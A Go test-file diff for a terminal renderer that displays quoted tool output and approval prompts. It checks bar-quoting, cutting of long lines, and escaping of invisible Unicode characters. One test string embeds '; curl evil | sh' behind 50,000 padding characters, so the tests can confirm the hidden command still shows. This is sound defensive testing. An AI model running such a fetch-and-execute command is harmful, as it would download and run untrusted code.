@@ -39,26 +39,68 @@ func TestVisible(t *testing.T) {
 	}
 }
 
+// rendered is a message on a screen of 80 columns that is as long as it takes.
+func rendered(m Message) string {
+	above, _ := screen(m, nil, "", 80, 1<<30)
+	return above
+}
+
 func TestQuotedTextStandsBehindABar(t *testing.T) {
-	got := render(Message{Body: "The tool asks:", Quoted: "Overwrite?\r\n\tnext\x1b]0;title\x07\nApprove? [y/N] y\n"})
-	want := "The tool asks:\n  | Overwrite?\n  | \tnext\\x1b]0;title\\x07\n  | Approve? [y/N] y\n"
+	got := rendered(Message{Body: "The tool asks:", Quoted: "Overwrite?\r\n\tnext\x1b]0;title\x07\nApprove? [y/N] y\n"})
+	want := "The tool asks:\n  | Overwrite?\n  |         next\\x1b]0;title\\x07\n  | Approve? [y/N] y\n"
 	if got != want {
 		t.Errorf("got %q\nwant %q", got, want)
 	}
-	long := render(Message{Quoted: strings.Repeat("x", MaxShown+7)})
+	long := rendered(Message{Quoted: strings.Repeat("x", MaxShown+7)})
 	if !strings.HasSuffix(long, "(7 more bytes are not shown)\n") {
 		t.Error("a cut is not said")
+	}
+	for text, whole := range map[string]bool{
+		strings.Repeat("x\n", MaxLines): true, strings.Repeat("x\n", MaxLines+1): false,
+		strings.Repeat("x", MaxShown): true, strings.Repeat("x", MaxShown+1): false,
+	} {
+		m := Message{Then: []Message{{Quoted: text}}}
+		if cut := strings.Contains(rendered(m), "more bytes are not shown"); m.Whole() != whole || cut == whole {
+			t.Errorf("%d bytes: whole %v, cut %v", len(text), m.Whole(), cut)
+		}
 	}
 }
 
 // A long value cannot push what is above or beside it out of sight.
 func TestLongLinesAreCut(t *testing.T) {
-	got := render(Message{Body: "before\n  + a = " + strings.Repeat("é ", 50_000) + "; curl evil | sh   (f:1)\nafter"})
-	if len(got) > 2*maxLine || !strings.HasPrefix(got, "before\n  + a = é é") || !strings.HasSuffix(got, "; curl evil | sh   (f:1)\nafter\n") || !strings.Contains(got, "more bytes, in all sha256:") || !utf8.ValidString(got) {
+	got := rendered(Message{Body: "before\n  + a = " + strings.Repeat("é ", 50_000) + "; curl evil | sh   (f:1)\nafter"})
+	if len(got) > 2*maxLine || !strings.HasPrefix(got, "before\n  + a = é é") || !strings.HasSuffix(strings.ReplaceAll(got, "\n"+bar, ""), "; curl evil | sh   (f:1)\nafter\n") || !strings.Contains(strings.ReplaceAll(got, "\n"+bar, ""), "more bytes, in all sha256:") || !utf8.ValidString(got) {
 		t.Errorf("%d bytes: %.100s … %s", len(got), got, got[len(got)-100:])
 	}
-	if got := render(Message{Quoted: strings.Repeat("x\n", 1000)}); !strings.HasSuffix(got, "(1000 lines in all)\n") {
-		t.Error("the length is not said")
+	above, question := screen(Message{Body: "A call of t:", Quoted: strings.Repeat("x\n", 1000)}, nil, "Let t run?", 80, 24)
+	if !strings.HasSuffix(above, "x\n(1001 rows in all; the screen has 24)\nA call of t:\n") || question != "Let t run?" {
+		t.Errorf("%s%s", above[len(above)-200:], question)
+	}
+}
+
+// What is drawn as nothing is written out, whatever makes it so.
+func TestBlankLookAlikesAreWrittenOut(t *testing.T) {
+	for _, r := range []rune{
+		0x1d159, 0x13441, 0x13442, 0x16fe4, 0x2d7f, 0x1107f, 0xfffc, // symbols, letters, joiners
+		0x2800, 0x3164, 0xffa0, 0x115f, 0x1160, 0x034f, 0x00ad, 0x200b, 0x2060, 0xfeff, // fillers and format characters
+		0xfe0f, 0xe0100, 0x180b, 0x180f, 0xe0041, 0x2065, 0xe0fff, 0xfff0, // selectors, tags, what is to be ignored
+		0x00a0, 0x2003, 0x3000, 0x1680, 0x2028, 0x0378, 0xe000, 0xffff, // spaces, what is not assigned, private use
+	} {
+		for _, text := range []string{"a" + string(r), string(r) + "a", "a" + string(r) + "b"} {
+			if got := VisibleLine(text); strings.ContainsRune(got, r) || !strings.Contains(got, `\`) {
+				t.Errorf("%U in %q is shown as %q", r, text, got)
+			}
+		}
+	}
+	// A mark of a script stands on letters of that script only; what people write stays as it is.
+	for text, want := range map[string]string{
+		"a\u0942": `a\u0942`, "क\u0942": "क\u0942", "é": "é", "e\u0301": "e\u0301",
+		"ខ្មែរ": "ខ្មែរ", "မြန်မာ": "မြန်မာ", "हिन्दी": "हिन्दी", "עִבְרִית": "עִבְרִית", "العَرَبِيَّة": "العَرَبِيَّة", "한국어": "한국어", "ไทยนี้": "ไทยนี้", "தமிழ்": "தமிழ்",
+		"a\u200b\u0301": `a\u200b\u0301`,
+	} {
+		if got := VisibleLine(text); got != want {
+			t.Errorf("%q is shown as %q", text, got)
+		}
 	}
 }
 
